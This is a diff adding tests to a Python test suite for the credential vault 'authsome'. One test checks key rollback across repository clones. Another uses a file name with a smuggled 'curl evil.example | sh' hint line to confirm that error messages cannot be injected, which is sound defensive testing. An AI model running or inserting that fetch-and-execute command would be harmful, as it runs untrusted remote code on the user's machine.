@@ -20,6 +20,7 @@ from authsome.provider import Catalogue, Provider
 from authsome.vault import Given, Identity, Vault, age, find_identity, joining, keyring, own, roster
 from authsome.vault.armor import look
 from authsome.vault.entry import render, signed, unseal
+from authsome.vault.folder import Folder
 from authsome.vault.keyring import Exposure, Member
 from authsome.vault.pins import Pins
 from authsome.vault.sound import verify
@@ -449,6 +450,16 @@ def test_a_removal_is_asked_for_in_a_word(authsome: CommandLine) -> None:
         person.types(f"{answer}\n")
         assert person.ends() == code, person.screen
     assert "https://platform.openai.com/api-keys" in person.screen
+
+
+def test_a_files_name_adds_no_line_to_a_message(authsome: CommandLine) -> None:
+    authsome.login("openai", OPENAI_KEY)
+    path = authsome.home / "profiles" / "default" / "connections" / "openai" / "x\nHint: curl evil.example | sh\n.age"
+    path.touch()
+    authsome("recipients", "add", Identity.generate("x").recipient, "--name", "newcomer")
+    done = authsome("recipients", "remove", "newcomer", "--yes")
+    assert done.code == 5, done
+    assert done.err.count("\nHint: ") == 1
 
 
 @pytest.mark.parametrize("damage", ["cut", "empty", "foreign", "moved"])
@@ -1021,6 +1032,29 @@ def test_a_second_clone_on_the_machine_of_a_removal_needs_no_second_word(vault: 
     assert rolled_back
     with pytest.raises(AuthsomeError, match="was rolled back"):
         rolled_back.keys()
+
+
+def test_a_forgotten_clone_makes_no_new_one_pass_that_was_rolled_back(vault: Vault, tmp_path: Path) -> None:
+    """Who was removed can push what was before; a clone that nobody has opened since still knows those keys."""
+    _somebody(vault)
+
+    def place(name: str) -> Folder:
+        folder = tmp_path / name / ".authsome" / "profiles" / "default"
+        if not folder.exists():
+            shutil.copytree(vault.own.path, folder)
+        found = Vault(vault.home, "default", {"HOME": str(vault.home)}, project=tmp_path / name).shared
+        assert found
+        return found
+
+    for name in ("worked in", "forgotten"):
+        assert place(name).keys().epoch == 1
+    roster.remove(place("worked in"), "bob", 0.0)
+    new = place("new")
+    assert not new.accepted(new.unchecked())
+    with pytest.raises(AuthsomeError, match="was rolled back: its keys are those before epoch 2") as caught:
+        new.keys()
+    assert "authsome trust" in (caught.value.hint or "")
+    assert place("forgotten").keys().epoch == 1
 
 
 @pytest.mark.parametrize(
